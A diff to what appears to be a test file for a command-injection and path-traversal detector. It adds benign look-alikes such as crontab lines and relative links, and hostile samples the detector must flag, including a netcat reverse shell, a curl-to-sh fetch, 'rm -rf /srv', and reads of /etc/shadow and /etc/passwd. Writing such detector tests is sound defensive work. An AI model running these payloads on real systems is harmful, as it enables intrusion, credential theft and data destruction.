@@ -6,17 +6,24 @@ differently from the attack it resembles; the attack in the same syntax is
 still refused by the rule that read the look-alike before.
 
 - a line that starts with a shell prompt ("$ tool -n 10 | sort -k2 | head")
-  is a command line written for a reader, as one that starts with a known
-  command word is, whatever its program is called (rce-command);
+  or a crontab's schedule ("*/10 * * * * cd /opt/app && ./run") is a
+  command line written for a reader, as one that starts with a known
+  command word is, whatever its program is called (rce-command-line, a
+  warning, not rce-command); five numbers are no schedule;
+- find's "-exec" on a transcript's line among other lines (a --help
+  text's examples) runs nothing: in a shell the line's command is "$", as
+  one argument list the other lines' words stop find first
+  (rce-option-command, rce-shell-syntax);
 - a log under /var/log written by a line of its own ("$ tool 2>>/var/log/
   tool.err" in a --help text, a crontab line after the man page's title)
   is what a manual's example appends to: the lines of a document are not a
   chain, only a separator on the writing line is (lfi-system-path);
 - a relative link up to three steps to a page, a picture, a stylesheet, a
-  site's script or a project's LICENSE, in text or a markdown link
-  ("[License](../../LICENSE)", "`../../shared/utils.ts`"), and "../" as a
-  word lead nowhere secret (lfi-traversal); a step to a server's code, a
-  settings file, the OS's directories, or four steps, still is.
+  font or a project's LICENSE, in text or a markdown link
+  ("[License](../../LICENSE)", "`../../docs/setup.md`"), and "../" as a
+  word lead nowhere secret (lfi-traversal); a step to code (a server's,
+  maybe: "../../shared/utils.ts"), a settings file, the OS's directories,
+  or four steps, still is.
 """
 import urllib.parse
 import uuid
@@ -41,11 +48,15 @@ LOOKALIKES = [
     "[License](../../LICENSE)",
     "![screenshot](../../docs/api/index.md)",
     "See ../guides/getting-started.md#prerequisites first.",
-    "Approving. One question about `../../shared/utils.ts`: can we import "
+    "Approving. One question about `../../docs/setup.md`: can we link "
     "via the alias instead? Three levels of ../ are hard to follow.",
     "../ relative path meaning",
     "- [Install](../install.md)\n- [API](../../docs/api/README.md)\n"
     "- ![logo](../../assets/logo.svg)",
+    "usage: notesctl [OPTIONS]\n\nexamples:\n"
+    "  $ find . -name '*.png' -exec notesctl -f {} +",
+    "*/10 * 15 * * cd /opt/app && ./venv/bin/python manage.py clearsessions",
+    "@daily cd /srv/app && ./bin/prune --days 30",
 ]
 
 # (value, the rule that must report it)
@@ -53,12 +64,18 @@ ATTACKS = [
     ("syncit -n 10 | sort -k2 -nr | head", "rce-command"),
     ("x | nc 10.0.0.1 4444 -e sh", "rce-command"),
     ("$ x;id;", "rce-command"),
+    ("1 2 3 4 5 x; id", "rce-command"),
+    ("* * * * * x; curl http://10.0.0.1/s | sh", "rce-shell-syntax"),
+    ("find . -name '*.png' -exec notesctl -f {} +", "rce-shell-syntax"),
+    ("x\nfind . -exec rm -rf /srv {} +", "rce-shell-syntax"),
+    ("examples:\n  $ find . -exec sh -c id {} +", "rce-shell-syntax"),
     ("x; echo pwned >> /var/log/auth.log", "lfi-system-path"),
     ("x >> /var/log/app.log; id", "lfi-system-path"),
     ("note\ncat /etc/shadow > /var/www/html/s.txt", "lfi-system-path"),
     ("../../../../LICENSE", "lfi-traversal"),
     ("[x](../../../../etc/passwd)", "lfi-traversal"),
     ("see `../../app/settings.py`", "lfi-traversal"),
+    ("about `../../shared/utils.ts`: ok", "lfi-traversal"),
     ("../../x.png ../../../etc/passwd", "lfi-traversal"),
     ("../../etc/passwd.png", "lfi-traversal"),
     ("![a](../../../var/www/.env.png)", "lfi-traversal"),
